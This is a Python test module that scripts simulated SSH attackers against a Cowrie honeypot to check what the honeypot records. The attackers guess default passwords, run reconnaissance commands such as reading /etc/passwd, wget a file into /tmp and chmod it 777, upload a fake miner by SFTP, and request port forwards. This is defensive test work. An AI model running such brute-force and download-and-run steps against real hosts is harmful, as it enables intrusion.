"""Attackers by SSH. Each makes one connection, and returns what it did."""

from __future__ import annotations

import asyncio
import contextlib
import re
from collections.abc import AsyncIterator, Iterable
from typing import Any

import asyncssh
from honeypot import PATIENCE
from visits import Activity, Target, Visit
from web import CLOSED, CONTENT, FILE, MISSING, NOT_FOUND

PROMPT = re.compile(rb"@svr04:[^\r\n]*[#$] $")


class _Guesser(asyncssh.SSHClient):
    """Tries a key, if it has one, and then one password after the other."""

    def __init__(self, passwords: Iterable[str], key: asyncssh.SSHKey | None) -> None:
        self.tried: list[str] = []
        self._passwords = iter(passwords)
        self._keys = iter([key] if key else [])

    def public_key_auth_requested(self) -> asyncssh.SSHKey | None:
        return next(self._keys, None)

    def password_auth_requested(self) -> str | None:
        if (password := next(self._passwords, None)) is not None:
            self.tried.append(password)
        return password


@contextlib.asynccontextmanager
async def connected(
    visit: Visit,
    target: Target,
    username: str,
    *passwords: str,
    key: asyncssh.SSHKey | None = None,
    client_version: str = "Go",
) -> AsyncIterator[asyncssh.SSHClientConnection]:
    """A connection that the last password opened. If none did, asyncssh.PermissionDenied."""
    guesser = _Guesser(passwords, key)
    visit.version = f"SSH-2.0-{client_version}"
    let_in = False
    try:
        connection = await asyncssh.connect(
            sock=visit.connect(target),
            client_factory=lambda: guesser,
            client_version=client_version,
            username=username,
            preferred_auth="publickey,password",
            login_timeout=PATIENCE,
            client_keys=None,  # nothing of the user who runs the tests
            known_hosts=None,
            config=None,
        )
        let_in = True
    finally:
        for number, password in enumerate(guesser.tried, 1):
            visit.tried(username, password, let_in=let_in and number == len(guesser.tried))
    async with connection:
        yield connection
    await connection.wait_closed()


class Shell:
    """A shell in a terminal."""

    def __init__(self, visit: Visit, process: asyncssh.SSHClientProcess[bytes]) -> None:
        self._visit, self._process = visit, process

    @classmethod
    async def open(cls, visit: Visit, connection: asyncssh.SSHClientConnection) -> Shell:
        process = await connection.create_process(term_type="xterm", term_size=(80, 24), encoding=None)
        shell = cls(visit, process)
        await shell._prompt()
        return shell

    async def run(self, command: str, **outcome: Any) -> None:
        """Type it, and wait for the next prompt."""
        self._visit.ran(command, **outcome)
        self._process.stdin.write(command.encode() + b"\r")
        await self._prompt()

    async def exit(self) -> None:
        self._visit.ran("exit")
        self._process.stdin.write(b"exit\r")
        await self._process.wait_closed()

    async def _prompt(self) -> None:
        seen = b""
        async with asyncio.timeout(PATIENCE):
            while not PROMPT.search(seen):
                seen += (more := await self._process.stdout.read(4096))
                assert more, f"{self._visit.name}: no more after {seen[-200:]!r}"


async def execute(visit: Visit, connection: asyncssh.SSHClientConnection, command: str, **outcome: Any) -> None:
    """Run one command without a shell. It must print: asyncssh stumbles over a channel that closes without output."""
    visit.ran(command, **outcome)
    await connection.run(command, timeout=PATIENCE)


# --- who never gets in


async def leaves(target: Target) -> Visit:
    visit = Visit("connects and leaves", "ssh")
    visit.connect(target).close()
    return visit


async def says_only_its_version(target: Target) -> Visit:
    visit = Visit("says only its version", "ssh", version="SSH-2.0-masscan_1.3")
    await _say(visit, target, b"SSH-2.0-masscan_1.3\r\n")
    return visit


async def speaks_http(target: Target) -> Visit:
    visit = Visit("speaks HTTP", "ssh", version="GET / HTTP/1.1")
    await _say(visit, target, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    return visit


async def _say(visit: Visit, target: Target, what: bytes) -> None:
    reader, writer = await asyncio.open_connection(sock=visit.connect(target))
    async with asyncio.timeout(PATIENCE):
        await reader.readline()
        writer.write(what)
        await writer.drain()
        await reader.read(1)
    writer.close()
    with contextlib.suppress(ConnectionError):
        await writer.wait_closed()


async def guesses(target: Target) -> Visit:
    """None of these is let in by Cowrie's own list."""
    visit = Visit("guesses", "ssh")
    with contextlib.suppress(asyncssh.PermissionDenied):
        async with connected(visit, target, "root", "root", "123456", "honeypot", client_version="libssh2_1.8.0"):
            raise AssertionError("let in")
    return visit


# --- who gets in


async def runs_commands(target: Target) -> Visit:
    visit = Visit("runs commands", "ssh")
    async with connected(visit, target, "root", "root", "admin") as connection:
        await execute(visit, connection, "uname -a")
        await execute(visit, connection, "cat /proc/cpuinfo | grep name | wc -l; free -m; whoami")
        await execute(visit, connection, "no-such-program -x 1", unknown="no-such-program -x 1")
    return visit


async def uses_a_shell(target: Target) -> Visit:
    visit = Visit("uses a shell", "ssh")
    async with connected(visit, target, "oracle", "oracle", client_version="PuTTY_Release_0.73") as connection:
        shell = await Shell.open(visit, connection)
        for command in ("w", "cd /tmp", "ls -la", "cat /etc/passwd", "ls -la"):
            await shell.run(command)
        await shell.exit()
    return visit


async def is_hostile(target: Target) -> Visit:
    """Text that is hard to keep as it is."""
    visit = Visit("is hostile", "ssh")
    async with connected(visit, target, "ad'min ü", 'p\\ä"\x1b[2J\u202e</script>') as connection:
        await execute(visit, connection, 'echo "ünï \\x41 – 日本 \U0001f41d \u202e" \t;  echo \'{"session": "0"}\'')
        await execute(visit, connection, "echo " + "A" * 12_000)
    return visit


async def downloads(target: Target) -> Visit:
    visit = Visit("downloads", "ssh")
    file, missing = target.web + FILE, target.web + MISSING
    async with connected(visit, target, "root", "toor") as connection:
        await execute(visit, connection, f"cd /tmp; wget {file} -O x86; chmod 777 x86")
        visit.downloaded(file, CONTENT)
        shell = await Shell.open(visit, connection)
        await shell.run(f"curl -s -O {file}")
        visit.downloaded(file, CONTENT)
        # Cowrie keeps the page that says that there is nothing
        await shell.run(f"wget {missing}")
        visit.downloaded(missing, NOT_FOUND)
        await shell.run(f"wget {CLOSED}")
        visit.downloaded(CLOSED, None)
        # loopback is refused, but for the web server: the command counts and no download
        await shell.run("wget http://127.0.0.1:9/x")
        await shell.exit()
    return visit


async def writes_a_file(target: Target) -> Visit:
    visit = Visit("writes a file", "ssh")
    async with connected(visit, target, "root", "letmein") as connection:
        await execute(visit, connection, "echo evil > /tmp/e; cat /tmp/e", saved=b"evil\n")
    return visit


async def uploads(target: Target) -> Visit:
    visit = Visit("uploads", "ssh")
    async with connected(visit, target, "tomcat", "tomcat") as connection, connection.start_sftp_client() as sftp:
        for name, content in (("miner", b"\x7fELF" + bytes(50_000)), ("config.json", b'{"pool": 1}')):
            async with sftp.open(f"/tmp/{name}", "wb") as file:
                await file.write(content)
            visit.uploaded(name, content)
    return visit


async def forwards(target: Target) -> Visit:
    """Cowrie connects to nobody: it only notes the wish."""
    visit = Visit("forwards", "ssh")
    async with connected(visit, target, "root", "pass") as connection:
        for host, port in (("192.0.2.25", 25), ("mail.example", 587)):
            visit.did.append(Activity("tcpip_request", f"{host}:{port}"))
            _, writer = await connection.open_connection(host, port)
            writer.close()
            await writer.wait_closed()
    return visit


async def shows_a_key(target: Target) -> Visit:
    visit = Visit("shows a key", "ssh")
    key = asyncssh.generate_private_key("ssh-rsa", key_size=2048)
    fingerprint = key.get_fingerprint("md5").removeprefix("MD5:")
    visit.did.append(Activity("client_fingerprint", fingerprint, "root"))
    visit.did.append(Activity("login_failed", fingerprint, "root"))
    async with connected(visit, target, "root", "1234", key=key) as connection:
        await execute(visit, connection, "id")
    return visit


async def is_cut_off(target: Target) -> Visit:
    """Its line breaks in the middle of a shell."""
    visit = Visit("is cut off", "ssh")
    async with connected(visit, target, "root", "abc123") as connection:
        shell = await Shell.open(visit, connection)
        await shell.run("ps aux")
        connection.abort()
    return visit


async def stays(target: Target, ready: asyncio.Event, leave: asyncio.Event) -> Visit:
    """Is there until it is told to leave, whatever the honeypot does."""
    visit = Visit("stays", "ssh")
    with contextlib.suppress(asyncssh.ConnectionLost):
        async with connected(visit, target, "root", "qwerty") as connection:
            shell = await Shell.open(visit, connection)
            await shell.run("crontab -l")
            ready.set()
            await leave.wait()
            connection.abort()
    return visit


ATTACKERS = (
    leaves,
    says_only_its_version,
    speaks_http,
    guesses,
    runs_commands,
    uses_a_shell,
    is_hostile,
    downloads,
    writes_a_file,
    uploads,
    forwards,
    shows_a_key,
    is_cut_off,
)
